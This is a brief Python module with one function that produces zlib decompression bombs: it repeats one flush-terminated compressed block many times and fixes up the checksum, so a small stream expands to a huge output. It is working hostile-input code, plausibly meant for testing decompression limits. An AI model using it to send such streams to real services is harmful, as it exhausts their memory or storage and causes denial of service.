"""Deflate bombs, made without compressing what they unpack to."""

from __future__ import annotations

import struct
import zlib


def unpacks_to(unit: bytes, times: int) -> bytes:
    """A zlib stream (RFC 1950) of `unit` at least `times` times: a flushed block can be repeated as it is."""
    piece = unit * max(1, 1_000_000 // len(unit))
    deflating = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflating.compress(piece) + deflating.flush(zlib.Z_FULL_FLUSH)
    count = max(1, len(unit) * times // len(piece))
    checksum = 1
    for _ in range(count):
        checksum = zlib.adler32(piece, checksum)
    return b"\x78\xda" + block * count + b"\x03\x00" + struct.pack(">I", checksum)
